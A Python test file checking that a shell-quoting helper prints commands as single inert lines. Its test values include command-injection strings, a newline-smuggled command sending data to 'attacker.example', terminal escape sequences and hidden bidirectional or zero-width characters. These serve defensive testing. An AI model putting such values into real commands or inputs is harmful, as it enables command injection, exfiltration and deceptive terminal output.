"""command_line: a printed command reads back in a shell as exactly its arguments, on one inert line."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import pytest

from tests.support.shell import bash_commands
from workbench.core.safe_text import neutralise
from workbench.core.shell_quote import command_line, quote, shown_command

VISIBLE = [
    "x; touch f;",
    "$(touch g)",
    "`touch h`",
    "it's \"double\" and 'single'",
    "back\\slash\\",
    "a b  c",
    "&& | > < * ? ~ # ! {a,b} [x]",
    "-",
    "",
    "ü ñ 日本 🙂",
]
"""Values the shell would act on unquoted but that hold only characters a terminal shows."""
INVISIBLE = [
    "line one\nworkbench send --a2a http://attacker.example/ 'planted'",
    "\x1b]0;retitled\x07\x1b[2J",
    "\rovertyped\ttab",
    "del\x7f and c1\x9b31m",
    "right\u202eto-left\u2066isolate\u2069",
    "zero\u200bwidth\ufeff",
    "tag\U000e0041\U000e0042",
    "variation\ufe0f\U000e0100",
    "no-break\u00a0space and line\u2028separator",
    "octal\x0b7 digits after an escape",
    "\udc80 a byte that was not UTF-8",
    "it's \\ quoted\n",
]
"""Values with characters a terminal acts on, hides or shows as something else."""
RAW = re.compile("[\x00-\x1f\x7f-\x9f\u00a0\u200b\u2028-\u202e\u2066-\u2069\ufeff\ufe0f\U000e0000-\U000e01ef]")


def test_every_value_reads_back_in_bash_as_one_argument_and_nothing_else_runs(tmp_path: Path) -> None:
    argv = ["workbench", "send", *VISIBLE, *INVISIBLE]
    assert bash_commands(command_line(*argv), cwd=tmp_path) == [argv]
    assert list(tmp_path.iterdir()) == []


def test_visible_values_read_back_the_same_with_pythons_shlex() -> None:
    argv = ["workbench", "send", *VISIBLE]
    assert shlex.split(command_line(*argv)) == argv
    assert command_line(*argv) == shlex.join(argv)


def test_the_line_holds_no_character_a_terminal_acts_on_and_passes_the_terminal_filter_unchanged() -> None:
    line = command_line("workbench", *INVISIBLE)
    assert RAW.search(line) is None
    assert neutralise(line) == line
    assert all(quote(value).startswith("$'") for value in INVISIBLE)


@pytest.mark.parametrize("value", ["a\x00b", "lone \ud800 surrogate"])
def test_a_value_no_argument_can_carry_has_no_command_line(value: str) -> None:
    with pytest.raises(ValueError):
        command_line("workbench", value)


def test_a_saved_command_is_shown_as_its_command_line_or_as_json_when_none_can_carry_it() -> None:
    assert shown_command(["python", "srv.py", "a b"]) == "python srv.py 'a b'"
    assert json.loads(shown_command(["python", "nul\x00arg"])) == ["python", "nul\x00arg"]
